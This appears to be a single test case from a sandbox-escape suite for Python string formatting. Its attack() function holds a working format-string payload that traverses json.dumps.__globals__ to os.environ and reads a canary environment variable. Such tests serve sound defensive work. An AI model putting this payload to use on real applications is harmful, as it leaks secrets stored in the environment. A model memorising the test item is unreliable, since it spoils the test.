"""No app reads attributes by a string that is not one."""

CLASS = "format"
BOUNDARY = "both"
NEEDS = ("collections", "json")


import collections
import json


def attack():
    text = collections.UserString("{0.__globals__[codecs].sys.modules[os].environ[VAAS_CANARY]}")
    return "ESCAPED: " + str(text.format(json.dumps))
